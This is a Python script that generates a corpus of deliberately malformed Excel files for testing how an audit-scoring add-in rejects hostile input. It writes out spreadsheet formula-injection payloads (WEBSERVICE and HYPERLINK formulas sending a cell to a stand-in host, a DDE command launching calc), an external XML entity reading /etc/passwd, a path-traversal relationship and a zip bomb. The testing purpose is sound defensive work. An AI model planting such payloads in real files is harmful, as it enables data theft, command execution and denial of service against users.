"""Write the hostile corpus of issue 15 into this folder (run on purpose, commit the files):
the reference workbook (reference-case.md) changed in one place each, the way an attacker or
an unlucky user would change it. tests/test_hostile.py runs every door on every file; the
expected outcome of each is in CORPUS below, with the item of the issue it stands for.

python tests/hostile/make_corpus.py
"""

from __future__ import annotations

import io
import re
import sys
import zipfile
import zlib
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path[:0] = [str(HERE.parent.parent), str(HERE.parent)]

import openpyxl  # noqa: E402

from addin.books.openpyxl_book import OpenpyxlBook  # noqa: E402
from addin.case import write_case  # noqa: E402
from addin.workbook import layout as L  # noqa: E402
from addin.workbook.build import build_workbook  # noqa: E402
from udfs import reference_case  # noqa: E402

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
HYPERLINK = '=HYPERLINK("http://example.invalid/?b="&财务数据!B13,"详见附件")'
WEBSERVICE = '=WEBSERVICE("http://example.invalid/?b="&财务数据!B13)'
DDE = "=cmd|' /C calc'!A0"

# file -> (expected exit code of `preval score`, what it stands for (issue 15 item))
CORPUS = {
    "far-cell-xfd.xlsx": (0, "1: one cell at XFD1048576 in 扣分记录 (calamine would ask for 512 GiB)"),
    "far-cell-cv.xlsx": (0, "1: one cell at CV1048576 in 基础信息 (4.2 GB, 20 s)"),
    "vertical-tab-unit.xlsx": (0, "1: 单位名称 with a pasted vertical tab, stored as _x000B_ in sharedStrings"),
    "formula-reasons.xlsx": (0, "2: 事由 =HYPERLINK/=WEBSERVICE/DDE/+/@ typed or pasted as text"),
    "formula-reason-live.xlsx": (0, "2: a 事由 that is a live =HYPERLINK formula (no cached value, as openpyxl "
                                    "writes it; every door, batch included, reads the formula)"),
    "=1+4.xlsx": (0, "2: a file name that is a formula, in a batch 汇总"),
    "row-202.xlsx": (1, "3: a deduction at row 202, past the rows the workbook formulas count"),
    "huge-reason.xlsx": (0, "11: a 事由 of 40,000 characters (评分说明 would pass 32,767)"),
    "circled-indicator.xlsx": (1, "10: ① and ² in the 指标 column"),
    "overflow-money.xlsx": (1, "10: 1e9999999 typed in a money cell"),
    "long-unit.xlsx": (0, "10: a 250-character 单位名称 (the report's title)"),
    "name-beyond-grid.xlsx": (1, "10: a defined name at row 1,048,577 (V501: where it points, where it must)"),
    "sheet-outside.xlsx": (2, "10: a worksheet relationship pointing outside the package"),
    "entity-late.xlsx": (2, "6: a DOCTYPE after a 5 KB comment in workbook.xml"),
    "entity-utf16.xlsx": (2, "6: a DOCTYPE in a part saved as UTF-16"),
    "entity-dat.xlsx": (2, "6: a DOCTYPE in a part named .dat"),
    "entity-theme-external.xlsx": (2, "6: an external entity (file:///etc/passwd) in the theme"),
    "entity-styles-internal.xlsx": (2, "6: an internal entity in styles.xml"),
    "lying-size.xlsx": (2, "7: a part that says 5 KB and inflates to 200 MB"),
    "bad-deflate.xlsx": (2, "10: a damaged deflate stream (zlib.error)"),
    "bad-crc.xlsx": (2, "11: a CRC mismatch"),
    "no-content-types.xlsx": (2, "11: no [Content_Types].xml"),
    "bzip2-entry.xlsx": (2, "11: a part compressed with bzip2"),
    "lzma-entry.xlsx": (2, "11: a part compressed with lzma"),
}


def reference(**changes) -> openpyxl.Workbook:
    wb = build_workbook()
    write_case(OpenpyxlBook(wb), dict(reference_case.RAW_INPUTS, **changes), reference_case.RAW_FINDINGS)
    return wb


def to_bytes(wb) -> bytes:
    buffer = io.BytesIO()
    wb.save(buffer)
    return buffer.getvalue()


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return {n: z.read(n) for n in z.namelist()}


def zipped(parts: dict[str, bytes], method: dict[str, int] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as z:
        for name, data in parts.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0))
            info.compress_type = (method or {}).get(name, zipfile.ZIP_DEFLATED)
            z.writestr(info, data)
    return buffer.getvalue()


def sheet_part(parts: dict[str, bytes], sheet: str) -> str:
    wb = parts["xl/workbook.xml"].decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(sheet)}"[^>]*r:id="([^"]+)"', wb)
    if rid is None:  # openpyxl writes the name as character references
        encoded = "".join(f"&#{ord(ch)};" for ch in sheet)
        rid = re.search(rf'<sheet [^>]*name="{re.escape(encoded)}"[^>]*r:id="([^"]+)"', wb)
    rels = parts["xl/_rels/workbook.xml.rels"].decode()
    target = re.search(rf'Target="([^"]+)" Id="{rid.group(1)}"', rels).group(1)
    return target.lstrip("/")


def add_cell(parts, sheet: str, row: int, ref: str, text: str) -> None:
    part = sheet_part(parts, sheet)
    xml = parts[part].decode()
    cell = f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c></row>'
    parts[part] = xml.replace("</sheetData>", cell + "</sheetData>").encode()


def build() -> dict[str, bytes]:
    out: dict[str, bytes] = {}
    base = to_bytes(reference())

    parts = parts_of(base)
    add_cell(parts, L.FINDINGS, 1048576, "XFD1048576", "误触")
    out["far-cell-xfd.xlsx"] = zipped(parts)
    parts = parts_of(base)
    add_cell(parts, L.BASICS, 1048576, "CV1048576", "误触")
    out["far-cell-cv.xlsx"] = zipped(parts)

    # 单位名称 as Excel stores a pasted vertical tab: a shared string with _x000B_
    parts = parts_of(base)
    part = sheet_part(parts, L.BASICS)
    parts[part] = re.sub(rb'<c r="B3" s="(\d+)" t="inlineStr"><is><t>[^<]*</t></is></c>', rb'<c r="B3" s="\1" t="s"><v>0</v></c>',
                         parts[part], count=1)
    assert b'<c r="B3" s="' in parts[part] and b't="s"><v>0</v>' in parts[part]
    parts["xl/sharedStrings.xml"] = (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="{MAIN}" '
                                     'count="1" uniqueCount="1"><si><t>邵阳市_x000B_信访局</t></si></sst>').encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                     b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rIdSst"/></Relationships>')
    out["vertical-tab-unit.xlsx"] = zipped(parts)

    wb = reference()
    ws = wb[L.FINDINGS]
    for row, reason in zip((2, 3, 4, 5, 6), (HYPERLINK, WEBSERVICE, DDE, "+1+2", "@SUM(A1)"), strict=True):
        ws.cell(row, 4).value = reason
        ws.cell(row, 4).data_type = "s"  # typed as text by the clerk (or pasted)
    out["formula-reasons.xlsx"] = to_bytes(wb)
    wb = reference()
    wb[L.FINDINGS].cell(7, 4).value = HYPERLINK  # a live formula in the 事由 cell
    out["formula-reason-live.xlsx"] = to_bytes(wb)
    out["=1+4.xlsx"] = base

    wb = reference()
    for column, value in enumerate(("资金使用合规性", "①", 1, "2例：会计基础工作不健全", "凭证"), start=1):
        wb[L.FINDINGS].cell(L.FINDINGS_LAST + 1, column, value)
    out["row-202.xlsx"] = to_bytes(wb)
    wb = reference()
    wb[L.FINDINGS].cell(2, 4).value = "绩效目标不够细化、量化。" * 3400  # 40,800 characters
    out["huge-reason.xlsx"] = to_bytes(wb)
    wb = reference()
    wb[L.FINDINGS].cell(2, 1).value = "①"
    wb[L.FINDINGS].cell(3, 1).value = "²"
    out["circled-indicator.xlsx"] = to_bytes(wb)
    out["overflow-money.xlsx"] = to_bytes(reference(全年预算="1e9999999"))
    out["long-unit.xlsx"] = to_bytes(reference(单位名称="很长的单位名称" * 36))  # 252 characters

    parts = parts_of(base)
    before = parts["xl/workbook.xml"]
    parts["xl/workbook.xml"] = re.sub(rb'(<definedName name="' + "全年预算".encode() + rb'">[^<]*!\$B\$)\d+',
                                      rb"\g<1>1048577", before)
    assert parts["xl/workbook.xml"] != before
    out["name-beyond-grid.xlsx"] = zipped(parts)
    parts = parts_of(base)
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="/xl/worksheets/sheet2.xml"', b'Target="../../../../etc/passwd"')
    out["sheet-outside.xlsx"] = zipped(parts)

    comment = b"<!--" + b"x" * 5120 + b"-->"
    parts = parts_of(base)
    parts["xl/workbook.xml"] = comment + b'<!DOCTYPE w [<!ENTITY a "aaaaaaaa">]>' + parts["xl/workbook.xml"]
    out["entity-late.xlsx"] = zipped(parts)
    parts = parts_of(base)
    doc = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE p [<!ENTITY a "a">]><p>&a;</p>'
    parts["docProps/custom.xml"] = doc.encode("utf-16")
    out["entity-utf16.xlsx"] = zipped(parts)
    parts = parts_of(base)
    parts["xl/custom.dat"] = b'<!DOCTYPE d [<!ENTITY a "a">]><d>&a;</d>'
    out["entity-dat.xlsx"] = zipped(parts)
    parts = parts_of(base)
    theme = parts["xl/theme/theme1.xml"]
    head, body = theme.split(b"?>", 1) if theme.startswith(b"<?xml") else (b"", theme)
    parts["xl/theme/theme1.xml"] = head + b'?><!DOCTYPE t [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>' + body
    out["entity-theme-external.xlsx"] = zipped(parts)
    parts = parts_of(base)
    styles = parts["xl/styles.xml"]
    parts["xl/styles.xml"] = b'<!DOCTYPE s [<!ENTITY big "' + b"y" * 200 + b'">]>' + styles
    out["entity-styles-internal.xlsx"] = zipped(parts)

    out["lying-size.xlsx"] = lying_size(base)
    parts = parts_of(base)
    out["bad-deflate.xlsx"] = damaged_deflate(zipped(parts))
    out["bad-crc.xlsx"] = bad_crc(base)
    parts = parts_of(base)
    del parts["[Content_Types].xml"]
    out["no-content-types.xlsx"] = zipped(parts)
    out["bzip2-entry.xlsx"] = zipped(parts_of(base), {"xl/styles.xml": zipfile.ZIP_BZIP2})
    out["lzma-entry.xlsx"] = zipped(parts_of(base), {"xl/styles.xml": zipfile.ZIP_LZMA})
    assert set(out) == set(CORPUS)
    return out


def _entries(data: bytes) -> list[zipfile.ZipInfo]:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return z.infolist()


def lying_size(base: bytes) -> bytes:
    """xl/custom.xml declared as 5 KB (local header and central directory), 200 MB inside."""
    parts = parts_of(base)
    parts["xl/custom.xml"] = b"<a/>"
    data = bytearray(zipped(parts))
    info = next(i for i in _entries(bytes(data)) if i.filename == "xl/custom.xml")
    payload = zlib.compressobj(9, zlib.DEFLATED, -15)
    bomb = payload.compress(b"<a>" + b"A" * (200 * 2**20) + b"</a>") + payload.flush()
    crc = zlib.crc32(b"<a/>")
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
    old_size = info.compress_size
    data[start:start + old_size] = bomb
    shift = len(bomb) - old_size

    def patch(offset: int, compressed: int) -> None:
        data[offset:offset + 4] = crc.to_bytes(4, "little")
        data[offset + 4:offset + 8] = compressed.to_bytes(4, "little")
        data[offset + 8:offset + 12] = (5120).to_bytes(4, "little")  # the lie

    patch(info.header_offset + 14, len(bomb))
    cd = data.rfind(b"PK\x05\x06")
    cd_offset = int.from_bytes(data[cd + 16:cd + 20], "little") + shift
    data[cd + 16:cd + 20] = cd_offset.to_bytes(4, "little")
    entry = data.find(b"PK\x01\x02", cd_offset)
    while entry != -1 and entry < cd:
        name_len = int.from_bytes(data[entry + 28:entry + 30], "little")
        extra_len = int.from_bytes(data[entry + 30:entry + 32], "little")
        comment_len = int.from_bytes(data[entry + 32:entry + 34], "little")
        name = bytes(data[entry + 46:entry + 46 + name_len])
        offset = int.from_bytes(data[entry + 42:entry + 46], "little")
        if name == b"xl/custom.xml":
            patch(entry + 16, len(bomb))
        elif offset > info.header_offset:
            data[entry + 42:entry + 46] = (offset + shift).to_bytes(4, "little")
        entry = data.find(b"PK\x01\x02", entry + 46 + name_len + extra_len + comment_len)
    return bytes(data)


def damaged_deflate(data: bytes) -> bytes:
    """Bytes flipped inside the compressed data of the biggest worksheet."""
    info = max((i for i in _entries(data) if i.filename.startswith("xl/worksheets/")), key=lambda i: i.compress_size)
    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra) + info.compress_size // 3
    out = bytearray(data)
    for n in range(start, start + 16):
        out[n] ^= 0xA5
    return bytes(out)


def bad_crc(data: bytes) -> bytes:
    """xl/workbook.xml's CRC-32 changed in its local header and its central directory entry."""
    info = next(i for i in _entries(data) if i.filename == "xl/workbook.xml")
    out = bytearray(data)
    wrong = (info.CRC ^ 0xFFFFFFFF).to_bytes(4, "little")
    out[info.header_offset + 14:info.header_offset + 18] = wrong
    entry = out.find(b"PK\x01\x02")
    while entry != -1:
        name_len = int.from_bytes(out[entry + 28:entry + 30], "little")
        if bytes(out[entry + 46:entry + 46 + name_len]) == b"xl/workbook.xml":
            out[entry + 16:entry + 20] = wrong
        entry = out.find(b"PK\x01\x02", entry + 46)
    return bytes(out)


def main() -> int:
    for name, data in build().items():
        (HERE / name).write_bytes(data)
        print(f"{name}: {len(data):,} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
